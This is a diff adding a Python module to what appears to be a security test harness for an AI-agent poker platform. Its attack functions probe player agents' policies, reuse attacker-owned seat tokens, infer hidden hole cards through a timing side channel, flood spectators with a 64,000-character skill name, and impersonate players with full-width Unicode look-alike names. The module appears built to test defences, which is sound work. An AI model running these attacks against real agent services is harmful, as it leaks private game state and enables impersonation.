@@ -1,0 +1,266 @@
+"""Attacks on players: their cards, their policy, their seats, their names."""
+
+import asyncio
+import secrets
+import statistics
+import time
+import unicodedata
+
+from casino.attack.attack import attack
+from casino.attack.attacks.learn import read_events
+from casino.attack.attacks.question import guesses, last_question
+from casino.attack.attacks.reply import Depth
+from casino.attack.bindings import Json
+from casino.attack.judge import by_answer
+from casino.attack.outcome import Outcome, not_applicable, refused, succeeded
+from casino.attack.target import Agent, Room, Target, Token, Try
+
+_NO_PLAYERS = "no player's address is known (--player URL)"
+_NOBODY_SITS = "none of the players sits at an open table"
+_EVENTS = 400
+_GUESSES = 200
+"""So many at most: a player that remembers the last 256 answers would forget the one sought."""
+_AT_A_TIME = 8
+_MUCH_FASTER = 0.5
+_PAGE = 64_000
+
+
+def _question(room: Room | None, table_id: str) -> Json:
+    """Return a question that any Hold'em player can answer."""
+    return {
+        "tableId": table_id,
+        "bettingRound": "preflop",
+        "communityCards": [],
+        "holeCards": [{"rank": "A", "suit": "spades"}, {"rank": "A", "suit": "hearts"}],
+        "pot": 3,
+        "minimumRaise": 2,
+        "currentBet": 2,
+        "playerStack": 198,
+        "legalActions": ["fold", "call", "raise", "all-in"],
+        "requestId": f"mallory:{secrets.token_hex(4)}",
+        "gameType": room.game_type if room else "texas-holdem",
+        "toCall": 2,
+        "minRaiseTo": 4,
+        "maxRaiseTo": 198,
+    }
+
+
+def _any_game(question: Json) -> Json:
+    """Return the same question in the words that a player of any game reads."""
+    return {
+        "tableId": question["tableId"],
+        "gameType": "kuhn_poker",
+        "specVersion": "1.0.0",
+        "requestId": question["requestId"],
+        "playerId": "player-1",
+        "state": {"public": {}, "private": {}},
+        "availableActions": [{"action_type": "FOLD"}, {"action_type": "CALL"}],
+        "deadlineMs": 5000,
+    }
+
+
+def _rooms(target: Target) -> list[Room]:
+    return target.open_rooms[:3]
+
+
+async def _ask(target: Target, player: Agent, table_id: str, tokens: list[Token]) -> list[Try]:
+    question = _question(None, table_id)
+    tries = await target.call_over_all(player, "act", question, tokens)
+    if not any(one.reply.was_let_in or one.reply.depth is Depth.DENIED for one in tries):
+        tries = await target.call_over_all(player, "act", _any_game(question), tokens)
+    return tries
+
+
+@attack("seats", "C5", "M1")
+async def question_player(target: Target) -> Outcome:
+    """Ask a player what it would do with other cards at the table where it sits."""
+    if not target.players:
+        return not_applicable(_NO_PLAYERS)
+    if not target.open_rooms:
+        return not_applicable("no room is open")
+    tries: list[Try] = []
+    for player in target.players:
+        for room in _rooms(target):
+            if _sits(room, player):
+                tokens = target.tokens("table", room.table_id)
+                tries += await _ask(target, player, room.table_id, tokens)
+    return by_answer(tries) if tries else not_applicable(_NOBODY_SITS)
+
+
+def _sits(room: Room, player: Agent) -> bool:
+    return player.name in {seat.get("displayName") for seat in room.seats}
+
+
+@attack("seats", "C5", "M1")
+async def question_player_elsewhere(target: Target) -> Outcome:
+    """Ask a player what it would do at a table that it never heard of.
+
+    What it answers tells its policy, and costs a language model's tokens.
+    """
+    if not target.players:
+        return not_applicable(_NO_PLAYERS)
+    tries: list[Try] = []
+    for player in target.players:
+        table_id = f"mallory-{secrets.token_hex(4)}"
+        tries += await _ask(target, player, table_id, target.tokens("table", table_id))
+    return by_answer(tries)
+
+
+@attack("seats", "C5", "M1")
+async def invite_seated_player(target: Target) -> Outcome:
+    """Invite a player to the table where it sits, with a seat token of the attacker's own."""
+    if not target.players or not target.open_rooms:
+        return not_applicable(_NO_PLAYERS)
+    room = target.open_rooms[0]
+    ours = Token("a token of the attacker's own", secrets.token_hex(32))
+    invitation = {
+        "casinoName": target.casino_name,
+        "tableId": room.table_id,
+        "roomId": room.room_id,
+        "minBuyIn": 1,
+        "maxBuyIn": 100,
+        "smallBlind": 1,
+        "bigBlind": 2,
+        "playerId": "player-1",
+        "seatToken": ours.value,
+    }
+    tries: list[Try] = []
+    for player in target.players:
+        if _sits(room, player):
+            await target.call(player, "signup", invitation)
+            tries += await _ask(target, player, room.table_id, [ours])
+    return by_answer(tries) if tries else not_applicable(_NOBODY_SITS)
+
+
+@attack("seats", "C5")
+async def repeat_question(target: Target) -> Outcome:
+    """Ask a player its last question again with guessed hole cards: the right ones come at once."""
+    if not target.players:
+        return not_applicable(_NO_PLAYERS)
+    outcomes: list[Outcome] = []
+    for player in target.players:
+        for room in _rooms(target):
+            asked = await _its_last_question(target, room, player.name)
+            if asked is not None:
+                outcome = await _oracle(target, player, asked)
+                if outcome.has_succeeded:
+                    return outcome
+                outcomes.append(outcome)
+    if not outcomes:
+        return not_applicable("no question to these players can be made from public events")
+    return outcomes[0]
+
+
+async def _its_last_question(target: Target, room: Room, name: str) -> Json | None:
+    seat = next((seat for seat in room.seats if seat.get("displayName") == name), None)
+    if seat is None:
+        return None
+    events = await read_events(target, room, max(0, room.last_sequence - _EVENTS))
+    return last_question(events, seat["playerId"], room.table_id)
+
+
+async def _oracle(target: Target, player: Agent, question: Json) -> Outcome:
+    """Ask again with guessed cards; any answer is one too many, and a quick one tells the cards."""
+    tokens = target.tokens("table", question["tableId"])
+    first, *others = guesses(question)
+    tries = await target.call_over_all(player, "act", first, tokens)
+    answered = {one.token for one in tries if one.reply.depth is Depth.ANSWERED}
+    if not answered:
+        return refused(f"{len(tries)} ways, and no answer at all")
+    token = next(token for token in tokens if token.name in answered)
+    hits = await remembered(target, player, others[:_GUESSES], token)
+    told = f"{player.name} answers a guess at its cards"
+    if hits:
+        return succeeded(f"{told}, and one of {_GUESSES} at once: its hole cards are known")
+    return succeeded(f"{told}; none of {_GUESSES} came at once, of {len(others)} that can be")
+
+
+async def remembered(
+    target: Target, player: Agent, questions: list[Json], token: Token
+) -> list[Json]:
+    """Return those questions that a player which takes time to think answered at once."""
+    at_a_time = asyncio.Semaphore(_AT_A_TIME)
+
+    async def seconds(question: Json) -> float | None:
+        """Return how long an answer took; None: there was none."""
+        async with at_a_time:
+            began = time.monotonic()
+            one = await target.call(player, "act", question, token)
+            took = time.monotonic() - began
+            return took if one.reply.depth is Depth.ANSWERED else None
+
+    took = await asyncio.gather(*map(seconds, questions))
+    answered = [one for one in took if one is not None]
+    if not answered:
+        return []
+    soon = statistics.median(answered) * _MUCH_FASTER
+    return [
+        question
+        for question, one in zip(questions, took, strict=True)
+        if one is not None and one < soon
+    ]
+
+
+@attack("seats", "M4")
+async def sign_up_with_a_page(target: Target) -> Outcome:
+    """Answer an invitation with a name of a skill as long as a book, which all spectators get."""
+    if target.bot is None:
+        return not_applicable("no bot of the attacker's own is invited (--seat ROOM)")
+    return await _sign_up(target, {"displayName": "Mallory", "actionSkill": "a" * _PAGE})
+
+
+@attack("seats", "M8")
+async def sign_up_as_another(target: Target) -> Outcome:
+    """Answer an invitation with another player's name, in letters that look the same."""
+    if target.bot is None:
+        return not_applicable("no bot of the attacker's own is invited (--seat ROOM)")
+    room = next((one for one in target.rooms if one.room_id == target.seated_in), None)
+    names = [seat["displayName"] for seat in room.seats] if room else []
+    others = [name for name in names if _wide(name) != name and name != "Mallory"]
+    if not others:
+        return not_applicable("nobody else sits in the room")
+    return await _sign_up(target, {"displayName": _wide(others[0])})
+
+
+def _wide(name: str) -> str:
+    """Return a name in full-width letters, which are the same letters to NFKC."""
+    wide = "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in name)
+    return wide if unicodedata.normalize("NFKC", wide) == name else name
+
+
+def _looks(name: str) -> str:
+    """Return what names that look the same have in common."""
+    return unicodedata.normalize("NFKC", name).casefold()
+
+
+async def _sign_up(target: Target, answer: Json) -> Outcome:
+    """Have the bot invited a second time, with another answer; its seat is given back."""
+    assert target.bot is not None  # noqa: S101  both callers looked
+    other = await target.bot.twin(answer)
+    path = f"/v1/rooms/{target.seated_in}/players"
+    try:
+        reply = await target.rest("POST", path, {"agentCardUrl": other.card_url}, as_operator=True)
+        if reply.depth is not Depth.ANSWERED:
+            if reply.reason == "ROOM_FULL":
+                return not_applicable("the room has no second free seat")
+            return refused(f"the seat was not given: {reply.reason}")
+        seat = reply.data if isinstance(reply.data, dict) else {}
+        has_left = await target.leave(target.seated_in, str(seat.get("playerId", "")))
+    finally:
+        await other.stop()
+    undone = "undone: it left" if has_left else "not undone: it has the seat"
+    if "actionSkill" not in answer:
+        asked, shown = (_looks(str(one.get("displayName", ""))) for one in (answer, seat))
+        if shown != asked:
+            return refused(f"the seat was given under another name; {undone}")
+    return succeeded(f"the seat was given; {undone}")
+
+
+ATTACKS = (
+    question_player,
+    question_player_elsewhere,
+    invite_seated_player,
+    repeat_question,
+    sign_up_with_a_page,
+    sign_up_as_another,
+)
